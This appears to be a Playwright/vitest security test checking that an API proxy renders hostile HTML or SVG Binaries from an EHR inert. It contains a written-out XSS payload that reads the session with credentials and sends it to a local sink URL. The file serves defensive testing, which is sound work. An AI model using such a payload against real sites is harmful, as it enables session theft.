import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFixture, type Fixture } from '../integration/stack-fixture.js';
import { hasChromium, newContext, PAGE_SHOWS, releaseBrowser, sharedBrowser } from './chromium.js';

/*
 * A hostile (or merely careless) EHR serves a Binary as HTML or SVG with a script in it. An app opens
 * it as `attachment.url` through the proxy, so the document would live on the API's origin, where a
 * same-origin fetch carries the binding cookie and the session id is in the document's own URL. The
 * proxy must keep it from reading anything.
 */


let fixture: Fixture;
let browser: Browser;
/** One signed-in browser (a launch through the sandbox EHR) for the file: the tests open content in it, none changes the session. */
let context: BrowserContext;
let app: Page;
let sessionId: string;
let sink: Server;
let sinkUrl: string;
const sinkHits: string[] = [];

beforeAll(async () => {
  if (!hasChromium) return;
  sink = createServer((req, res) => {
    sinkHits.push(req.url ?? '');
    res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
  sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}/leak`;
  fixture = await startFixture();
  browser = await sharedBrowser();
  context = await newContext(browser, { acceptDownloads: true });
  app = await context.newPage();
  sessionId = await signIn(app);
});
afterAll(async () => {
  await releaseBrowser(browser);
  await fixture?.close();
  await new Promise<void>((resolve) => (sink ? sink.close(() => resolve()) : resolve()));
});

/** The attacker's script: the first statement marks that it ran; then it reads the session and sends it out. */
function payload(): string {
  return `document.title='ran';fetch(location.pathname.replace(/\\/fhir\\/.*$/,''),{credentials:'include'}).then(r=>r.text()).then(t=>{document.title='read:'+t.length;return fetch(${JSON.stringify(sinkUrl)}+'?'+encodeURIComponent(t.slice(0,200)),{mode:'no-cors'})}).catch(e=>{document.title='failed:'+e})`;
}

const HOSTILE = {
  html: { contentType: 'text/html; charset=utf-8', body: () => `<!doctype html><html><head><title>note</title></head><body><p>Clinical note</p><script>${payload()}</script></body></html>` },
  svg: { contentType: 'image/svg+xml', body: () => `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>note</title><script>${payload()}</script></svg>` },
} as const;

/** Signs in through the sandbox EHR's "Launch app" link and answers the session id the demo app received, once it shows the patient. */
async function signIn(page: Page): Promise<string> {
  const patient = fixture.stack.sandbox!.patients[0]!;
  const sessionRequest = page.waitForRequest((request) => /\/sessions\/[A-Za-z0-9_-]{43}$/.test(new URL(request.url()).pathname));
  await page.goto(`${fixture.stack.sandbox!.url}/`);
  await page.locator('tr', { hasText: patient.name }).getByRole('link', { name: 'Launch app' }).click();
  const id = new URL((await sessionRequest).url()).pathname.split('/').at(-1)!;
  // Runs before the tests (no expect.poll there): the page itself watches for the patient's name.
  await page.waitForFunction((name) => document.querySelector('#patient-name')?.textContent === name, patient.name, { timeout: PAGE_SHOWS.timeout, polling: PAGE_SHOWS.interval });
  return id;
}

describe.skipIf(!hasChromium)('active content from the EHR, opened through the proxy in Chromium', () => {
  it.each(['html', 'svg'] as const)('a %s Binary cannot run script or read the session on the API origin', async (kind) => {
    const hostile = HOSTILE[kind];
    fixture.stack.sandbox!.faults.fhirAnswer = { status: 200, headers: { 'content-type': hostile.contentType }, body: hostile.body(), pathPrefix: 'Binary/' };
    try {
      const url = `${fixture.stack.apiUrl}/sessions/${sessionId}/fhir/Binary/hostile-${kind}`;
      const viewer = await context.newPage();
      const download = viewer.waitForEvent('download', { timeout: 10_000 }).then((d) => d, () => undefined);
      const navigation = await viewer.goto(url).then(
        (response) => ({ response, error: undefined }),
        (error: unknown) => ({ response: undefined, error: String(error) }),
      );
      if (navigation.response) {
        // Rendered after all: it must be inert and on an opaque origin.
        await viewer.waitForLoadState('load');
        expect(await viewer.title()).toBe('note');
        expect(await viewer.evaluate(() => window.origin)).toBe('null');
        const headers = navigation.response.headers();
        expect(headers['content-security-policy']).toMatch(/^sandbox/);
      } else {
        // The browser was told to download it, never to render it on the API origin.
        expect(navigation.error).toMatch(/Download is starting|ERR_ABORTED/);
        const file = await download;
        expect(file).toBeDefined();
        await file?.cancel();
      }
      // Whatever the browser did, the page it came from still shows the app, and nothing reached the sink.
      expect(await app.locator('#patient-name').textContent()).toBe(fixture.stack.sandbox!.patients[0]!.name);
      expect(sinkHits).toEqual([]);
      await viewer.close();
    } finally {
      fixture.stack.sandbox!.faults.fhirAnswer = undefined;
    }
  });

  it('the same Binary fetched by the app (as FHIR clients do) still arrives byte for byte, marked inert', async () => {
    const body = HOSTILE.html.body();
    fixture.stack.sandbox!.faults.fhirAnswer = { status: 200, headers: { 'content-type': HOSTILE.html.contentType }, body, pathPrefix: 'Binary/' };
    try {
      const fetched = await app.evaluate(async (url) => {
        const response = await fetch(url, { credentials: 'include' });
        return { status: response.status, text: await response.text(), disposition: response.headers.get('content-disposition'), cache: response.headers.get('cache-control') };
      }, `${fixture.stack.apiUrl}/sessions/${sessionId}/fhir/Binary/hostile-html`);
      expect(fetched).toEqual({ status: 200, text: body, disposition: 'attachment', cache: 'no-store' });
    } finally {
      fixture.stack.sandbox!.faults.fhirAnswer = undefined;
    }
  });
});
